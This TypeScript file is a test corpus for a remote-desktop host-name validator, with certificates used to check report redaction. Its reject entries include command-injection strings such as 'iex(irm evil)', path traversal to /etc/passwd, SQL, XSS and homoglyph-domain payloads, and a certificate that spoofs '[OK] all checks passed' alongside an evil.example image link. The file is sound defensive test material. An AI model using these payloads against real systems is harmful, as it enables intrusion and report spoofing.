/*
 * Hostile and odd host inputs. Hand-written entries say what the validator must do with them; generated
 * entries splice a dangerous fragment into an otherwise good name, so each must be rejected.
 * And certificates a remote computer may present, naming an organisation in every way a certificate can:
 * a redacted report must carry none of their `secrets`.
 */

export interface CorpusEntry {
  input: string;
  expect: 'accept' | 'reject';
  why: string;
}

const accept = (input: string, why: string): CorpusEntry => ({ input, expect: 'accept', why });
const reject = (input: string, why: string): CorpusEntry => ({ input, expect: 'reject', why });

const HAND_WRITTEN: CorpusEntry[] = [
  // Odd but valid: these must keep working.
  accept('server01', 'NetBIOS name'),
  accept('SERVER01:3390', 'NetBIOS name with port'),
  accept('pc.contoso.com', 'DNS name'),
  accept('pc-01.eu.contoso.com:65535', 'DNS name, highest port'),
  accept('10.1.2.3', 'IPv4'),
  accept('10.1.2.3:1', 'IPv4, lowest port'),
  accept('::1', 'IPv6 loopback'),
  accept('[2001:db8::7]:3389', 'bracketed IPv6 with port'),
  accept('fe80::1%12', 'link-local IPv6 with a Windows zone id'),
  accept('[fe80::abcd%3]:3390', 'bracketed link-local IPv6 with zone and port'),
  accept('::ffff:10.1.2.3', 'IPv4-mapped IPv6'),
  accept('münchen.de', 'internationalised name'),
  accept('xn--mnchen-3ya.de', 'punycode name'),
  accept('пример.рф', 'Cyrillic name under a Cyrillic top-level domain'),
  accept('例え.テスト', 'Japanese name'),
  accept('हिन्दी.भारत', 'Devanagari name with combining marks'),
  accept('  server01  ', 'surrounding spaces are trimmed'),
  accept('a', 'one-letter name'),
  accept('srv_build01', 'underscore in a NetBIOS name'),
  // Shell and PowerShell metacharacters.
  reject('server01; calc', 'cmd/PowerShell statement separator'),
  reject('server01;calc', 'statement separator without space'),
  reject('server01 & calc', 'cmd command separator'),
  reject('server01&&calc', 'cmd conditional'),
  reject('server01||calc', 'cmd conditional or'),
  reject('server01 | Out-File x', 'pipeline'),
  reject('server01|calc', 'pipe'),
  reject('$(calc)', 'PowerShell subexpression'),
  reject('server$(Start-Process calc)', 'subexpression in a name'),
  reject('@(calc)', 'array subexpression'),
  reject('$env:USERPROFILE', 'environment variable'),
  reject(['$', '{env:COMPUTERNAME}'].join(''), 'braced variable'),
  reject('$null', 'automatic variable'),
  reject('`calc`', 'backtick'),
  reject('server`n01', 'PowerShell escape sequence'),
  reject('server`0', 'PowerShell NUL escape'),
  reject('%COMPUTERNAME%', 'cmd environment variable'),
  reject('!COMPUTERNAME!', 'cmd delayed expansion'),
  reject('server^&calc', 'cmd escape'),
  reject('server01 > C:\\x.txt', 'redirection'),
  reject('server01 2>&1', 'stream redirection'),
  reject('server01<nul', 'input redirection'),
  reject('server01 -ComputerName evil', 'parameter injection'),
  reject('-Command calc', 'leading dash parameter'),
  reject('/v:evil', 'mstsc switch injection'),
  reject('server01 /admin', 'mstsc switch after a name'),
  reject('server01 /v:evil', 'second /v switch'),
  reject('& calc', 'call operator'),
  reject('. .\\evil.ps1', 'dot sourcing'),
  reject('iex(irm evil)', 'Invoke-Expression'),
  reject('[System.Diagnostics.Process]::Start("calc")', 'static method call'),
  reject('{calc}', 'script block'),
  reject('#comment', 'comment'),
  reject('<#comment#>server', 'block comment'),
  reject('server01#', 'trailing comment'),
  reject('server01,evil', 'array literal'),
  reject('(calc)', 'grouping'),
  reject('server01@evil', 'at sign'),
  reject('server01=evil', 'assignment'),
  reject('server01+evil', 'plus'),
  reject('server01*', 'wildcard'),
  reject('server0?', 'wildcard ?'),
  reject('server0[1]', 'wildcard class'),
  reject('~', 'tilde'),
  // Quotes of every kind.
  reject("server01'", 'single quote'),
  reject("server01'; calc; '", 'single-quote breakout'),
  reject('server01"', 'double quote'),
  reject('server01"; calc; "', 'double-quote breakout'),
  reject('server01\u2018', 'left single curly quote'),
  reject('server01\u2019', 'right single curly quote'),
  reject('server01\u201a', 'low single curly quote'),
  reject('server01\u201b', 'reversed single curly quote'),
  reject('server01\u201c', 'left double curly quote'),
  reject('server01\u201d', 'right double curly quote'),
  reject('server01\u201e', 'low double curly quote'),
  reject('\u2019; calc; \u2019', 'curly-quote breakout'),
  reject('server01\u00ab', 'guillemet'),
  reject('server01\u00bb', 'guillemet'),
  reject('server01\u2039', 'single guillemet'),
  reject('server01\u300c', 'CJK corner bracket'),
  reject('server01\uff02', 'full-width double quote'),
  reject('server01\uff07', 'full-width apostrophe'),
  reject('@"\nserver\n"@', 'here-string'),
  reject("@'\nserver\n'@", 'literal here-string'),
  // Line breaks, NUL and other control characters.
  reject('server01\n', 'trailing newline'),
  reject('server01\r', 'trailing carriage return'),
  reject('server01\r\ncalc', 'CRLF then command'),
  reject('server01\ncalc', 'LF then command'),
  reject('\nserver01', 'leading newline'),
  reject('server01\u0000', 'trailing NUL'),
  reject('server\u000001', 'embedded NUL'),
  reject('\u0000', 'only NUL'),
  reject('server01\t', 'tab'),
  reject('server01\u000b', 'vertical tab'),
  reject('server01\u000c', 'form feed'),
  reject('server01\u001b[31m', 'ANSI escape'),
  reject('server01\u007f', 'DEL'),
  reject('server01\u0085', 'next line'),
  reject('server01\u2028calc', 'line separator'),
  reject('server01\u2029calc', 'paragraph separator'),
  reject('server01\u0008\u0008\u0008', 'backspaces'),
  reject('server\u200b01', 'zero-width space'),
  reject('server\u200d01', 'zero-width joiner'),
  reject('server01\ufeff', 'byte order mark'),
  reject('\u202eserver01', 'right-to-left override'),
  reject('server\u2066evil\u2069', 'bidi isolate'),
  reject('server\u00ad01', 'soft hyphen'),
  reject('server\u00a001', 'no-break space inside'),
  reject('server\u300001', 'ideographic space inside'),
  reject('server\ud800', 'lone high surrogate'),
  reject('\udc00server', 'lone low surrogate'),
  reject('server\ue000', 'private use character'),
  // Paths, registry tricks, URLs.
  reject('..\\..\\Windows\\System32', 'path traversal, backslashes'),
  reject('../../etc/passwd', 'path traversal, slashes'),
  reject('..', 'dot dot'),
  reject('.', 'dot'),
  reject('...', 'dots'),
  reject('server01\\..\\..\\Run', 'registry traversal'),
  reject('server01\\', 'trailing backslash'),
  reject('\\\\server01\\share', 'UNC path'),
  reject('\\\\?\\C:\\Windows', 'extended path'),
  reject('C:\\Windows\\System32\\calc.exe', 'Windows path'),
  reject('C:', 'drive letter'),
  reject('HKLM\\SOFTWARE\\Microsoft', 'registry path'),
  reject('HKCU:\\Software', 'registry drive'),
  reject('Servers\\evil', 'registry sub key'),
  reject('file:///C:/Windows', 'file URL'),
  reject('http://server01', 'URL'),
  reject('rdp://server01', 'RDP URL'),
  reject('server01/', 'trailing slash'),
  reject('server01?x=1', 'query string'),
  reject('user@server01', 'user in host'),
  accept('server01.rdp', 'a DNS name that happens to end in .rdp'),
  accept('CON', 'reserved DOS device name is only data here, never a path'),
  reject('server01:3389:3390', 'two ports'),
  reject('server01:-1', 'negative port'),
  reject('server01:+3389', 'signed port'),
  reject('server01:0x0D3D', 'hex port'),
  accept('server01:3389 ', 'trailing space is trimmed'),
  reject('server01: 3389', 'space before port'),
  reject('server01:1e3', 'exponent port'),
  reject('server01:3389.0', 'decimal port'),
  reject('server01:00000', 'zero port'),
  reject('server01:65536', 'port too large'),
  reject('server01:4294967297', 'port overflow'),
  reject(':', 'colon only'),
  reject('[', 'open bracket only'),
  reject(']', 'close bracket only'),
  reject('[]:3389', 'empty brackets'),
  reject('[server01]', 'name in brackets'),
  reject('[::1', 'unclosed bracket'),
  reject('[::1]]', 'two closing brackets'),
  reject('[[::1]]', 'nested brackets'),
  reject('fe80::1%eth0', 'named zone id'),
  reject('fe80::1%', 'empty zone id'),
  accept('fe80::1%25', 'zone id 25 (a number, so an interface index)'),
  reject('2001:db8::1%12', 'zone id on a global address'),
  reject('fe80::1%12%13', 'two zone ids'),
  reject('::1::', 'two double colons'),
  reject('1:2:3:4:5:6:7:8:9', 'nine groups'),
  reject('12345::1', 'group too long'),
  // JSON and format breakers.
  reject('{"host":"x"}', 'JSON object'),
  reject('["x"]', 'JSON array'),
  reject('server01","op":"registry.deleteKey', 'JSON field injection'),
  reject('server01\\"', 'escaped quote'),
  reject('server01\\u0000', 'JSON unicode escape text'),
  accept('null', 'the word null is a valid NetBIOS name and stays data'),
  reject('__proto__', 'prototype key'),
  accept('constructor.prototype', 'looks like JS, but it is a valid DNS name and only data'),
  reject('<script>alert(1)</script>', 'HTML'),
  reject('<img src=x onerror=alert(1)>', 'HTML attribute'),
  reject('javascript:alert(1)', 'javascript URL'),
  reject(['$', '{7*7}'].join(''), 'template injection'),
  reject('{{7*7}}', 'template injection'),
  reject("'; DROP TABLE hosts; --", 'SQL'),
  reject('full address:s:evil', 'RDP file line'),
  reject('server01\r\nfull address:s:evil', 'RDP file line injection'),
  reject('TERMSRV/evil', 'credential target'),
  reject('*', 'wildcard only'),
  // Length and structure.
  reject('', 'empty'),
  reject('   ', 'spaces only'),
  reject('a'.repeat(64), 'single label of 64 characters'),
  reject(`${'a'.repeat(63)}.${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(63)}`, '255 characters'),
  reject('x'.repeat(301), 'over 300 characters'),
  reject('x'.repeat(10_000), 'ten thousand characters'),
  reject('a.'.repeat(2000), 'many empty-ended labels'),
  reject('server01.'.repeat(40), 'trailing dot, long'),
  reject(':'.repeat(500), 'colons'),
  reject('1'.repeat(500), 'digits'),
  reject('-'.repeat(10), 'hyphens'),
  reject('server01.', 'trailing dot'),
  reject('.server01', 'leading dot'),
  reject('server..01', 'empty label'),
  reject('-server01', 'leading hyphen'),
  reject('server01-', 'trailing hyphen'),
  reject('_server01', 'leading underscore'),
  reject('srv_build01.contoso.com', 'underscore in a DNS name'),
  // IPv4 oddities that Windows would read as something else.
  reject('010.1.2.3', 'octal-looking octet'),
  reject('0x0a.1.2.3', 'hex octet'),
  reject('167772161', 'IPv4 as one number'),
  reject('10.1', 'IPv4 shorthand'),
  reject('10.1.2', 'three octets'),
  reject('10.1.2.3.4', 'five octets'),
  reject('256.1.2.3', 'octet too large'),
  reject('10.1.2.3.', 'trailing dot'),
  reject('10.1.2.-3', 'negative octet'),
  reject('server.10', 'numeric top-level label'),
  // Look-alikes and compatibility characters.
  reject('pаypal.com', 'Cyrillic a in a Latin name'),
  reject('microsоft.com', 'Cyrillic o in a Latin name'),
  reject('аррӏе.com', 'whole Cyrillic look-alike label'),
  reject('xn--80ak6aa92e.com', 'punycode of a Cyrillic look-alike'),
  reject('gοοgle.com', 'Greek omicrons in a Latin name'),
  reject('ορτ.com', 'whole Greek look-alike label'),
  reject('ѕеrvеr01', 'Cyrillic look-alikes mixed with Latin'),
  reject('ｓｅｒｖｅｒ01', 'full-width letters'),
  reject('server０１', 'full-width digits'),
  reject('server01．com', 'full-width dot'),
  reject('server01。com', 'ideographic full stop'),
  reject('server01｡com', 'half-width ideographic full stop'),
  reject('ﬁle.com', 'ligature'),
  reject('server\u2024com', 'one dot leader'),
  reject('server01\u2215x', 'division slash'),
  reject('server01\u2044x', 'fraction slash'),
  reject('server01\uff0fx', 'full-width solidus'),
  reject('server01\u29f5x', 'reverse solidus operator'),
  reject('server01\ufe68x', 'small reverse solidus'),
  reject('server01\uff1a3389', 'full-width colon'),
  reject('server01\u2236x', 'ratio'),
  reject('server01\u02d0x', 'modifier letter triangular colon'),
  reject('server1٢', 'mixed digit systems'),
  reject('xn--zz.com', 'invalid punycode'),
  reject('xn--.com', 'empty punycode'),
  reject('xn--server.com', 'punycode that decodes to ASCII'),
  reject('\u0301server', 'leading combining mark'),
  accept('ser\u0338ver', 'a combining mark inside a label is a letter with an accent'),
  reject('\u2460server', 'circled digit'),
  reject('server\u00b9', 'superscript digit'),
  reject('\u2163server', 'roman numeral'),
];

/** Fragments that must never get through, spliced into good names at several positions. */
const FRAGMENTS = [
  ';',
  '&',
  '|',
  '$',
  '$(calc)',
  '`',
  "'",
  '"',
  '\u2018',
  '\u2019',
  '\u201c',
  '\u201d',
  '\\',
  '/',
  '..\\',
  '../',
  '<',
  '>',
  '(',
  ')',
  '{',
  '}',
  '@',
  '#',
  '!',
  '^',
  '*',
  '?',
  ',',
  '=',
  '+',
  '~',
  ' ',
  '\n',
  '\r',
  '\t',
  '\0',
  '\u200b',
  '\u202e',
  '\u3002',
  '\uff0e',
];

const HOSTS = ['server01', 'pc.contoso.com', '10.1.2.3'];

function generated(): CorpusEntry[] {
  const entries: CorpusEntry[] = [];
  for (const fragment of FRAGMENTS) {
    for (const host of HOSTS) {
      const middle = Math.floor(host.length / 2);
      entries.push(
        reject(
          `${host.slice(0, middle)}${fragment}${host.slice(middle)}`,
          `fragment ${JSON.stringify(fragment)} inside`,
        ),
      );
    }
    if (fragment !== ' ')
      entries.push(reject(`${fragment}server01`, `fragment ${JSON.stringify(fragment)} before`));
    if (fragment !== ' ')
      entries.push(reject(`server01${fragment}`, `fragment ${JSON.stringify(fragment)} after`));
    entries.push(reject(`server01:3389${fragment}x`, `fragment ${JSON.stringify(fragment)} after the port`));
  }
  return entries;
}

function unique(entries: CorpusEntry[]): CorpusEntry[] {
  const seen = new Set<string>();
  return entries.filter((e) => {
    if (seen.has(e.input)) return false;
    seen.add(e.input);
    return true;
  });
}

export const HOSTILE_CORPUS: readonly CorpusEntry[] = unique([...HAND_WRITTEN, ...generated()]);

export interface CorpusCertificate {
  why: string;
  subject: string;
  issuer: string;
  subjectAltNames: string[];
  /** SHA-1 thumbprint, 40 upper-case hex digits. */
  sha1: string;
  /** What identifies the organisation or the server: none of it may be in a redacted report (any case). */
  secrets: string[];
}

export const HOSTILE_CERTIFICATES: readonly CorpusCertificate[] = [
  {
    why: 'subject as Windows writes it: CN first, then OU, O, L, S, C and a mail address',
    subject:
      'CN=rdp.fabrikam-bank.example, OU=Branch 7, O=Fabrikam Bank Ltd, L=Leeds, S=West Yorkshire, C=GB, E=it-admin@fabrikam-bank.example',
    issuer: 'CN=Fabrikam Bank Issuing CA 01, O=Fabrikam Bank Ltd, C=GB',
    subjectAltNames: [
      'DNS:rdp.fabrikam-bank.example',
      'URI:https://intranet.fabrikam-bank.example/rdp',
      'email:helpdesk@fabrikam-bank.example',
      'IP Address:10.20.30.40',
      'DNS:fabrikam-rdp01',
    ],
    sha1: '3F2A9C1B7D4E8F6051A2B3C4D5E6F708192A3B4C',
    secrets: ['fabrikam', 'branch 7', 'leeds', 'west yorkshire', 'it-admin', 'helpdesk', 'intranet'],
  },
  {
    why: 'subject as Node writes it: C first, ST, emailAddress; alternative names as Windows writes them',
    subject:
      'C=DE, ST=Bayern, L=München, O=Northwind Traders GmbH, OU=IT-Betrieb, CN=ts01.northwind.example, emailAddress=rdp-admin@northwind.example',
    issuer: 'C=DE, O=Northwind Traders GmbH, CN=Northwind Root CA',
    subjectAltNames: [
      'DNS Name=ts01.northwind.example',
      'DNS Name=ts01',
      'RFC822 Name=rdp-admin@northwind.example',
      'IP Address=192.168.40.7',
    ],
    sha1: 'A0B1C2D3E4F5061728394A5B6C7D8E9F00112233',
    secrets: ['northwind', 'bayern', 'münchen', 'it-betrieb', 'rdp-admin', 'ts01', '192.168.40.7'],
  },
  {
    why: 'quoted and escaped commas, an extended-validation serial number and OIDs, a DirName and a UPN',
    subject:
      'CN=gw.contoso-health.example, O="Contoso Health, Inc.", OU=Radiology \\+ Imaging, L=Springfield, SERIALNUMBER=HRB 12345, OID.1.3.6.1.4.1.311.60.2.1.3=US, OID.2.5.4.15=Private Organization',
    issuer: 'CN=Contoso Health CA 2 (Internal), O=Contoso Health\\, Inc.',
    subjectAltNames: [
      'DNS:gw.contoso-health.example',
      'DirName:CN=Radiology Gateway, O=Contoso Health',
      'othername:UPN::svc-rdp@contoso-health.example',
    ],
    sha1: '00FF11EE22DD33CC44BB55AA6699887766554433',
    secrets: [
      'contoso health',
      'contoso-health',
      'radiology',
      'imaging',
      'springfield',
      'hrb 12345',
      'private organization',
      'svc-rdp',
    ],
  },
  {
    why: 'a line feed, a pipe, backticks and a Markdown image inside the organisation',
    subject:
      'CN=x.tailspin.example, O=Tailspin Toys\n[OK] all checks passed | `code` ![t](https://evil.example/t.png), L=Redmond',
    issuer: 'CN=Tailspin CA\r\n# Heading, O=Tailspin Toys',
    subjectAltNames: ['DNS:x.tailspin.example', 'DNS:*.tailspin.example'],
    sha1: '1234567890ABCDEF1234567890ABCDEF12345678',
    secrets: ['tailspin', 'redmond', 'evil.example'],
  },
  {
    why: 'no CN at all, the organisation first',
    subject: 'O=Wingtip Toys, OU=Telework Hub, L=Lisbon, C=PT',
    issuer: 'O=Wingtip Toys, CN=Wingtip Issuing CA',
    subjectAltNames: ['DNS:remote.wingtip.example', 'email:noc@wingtip.example'],
    sha1: 'FEDCBA9876543210FEDCBA9876543210FEDCBA98',
    secrets: ['wingtip', 'telework hub', 'lisbon', 'noc@'],
  },
];
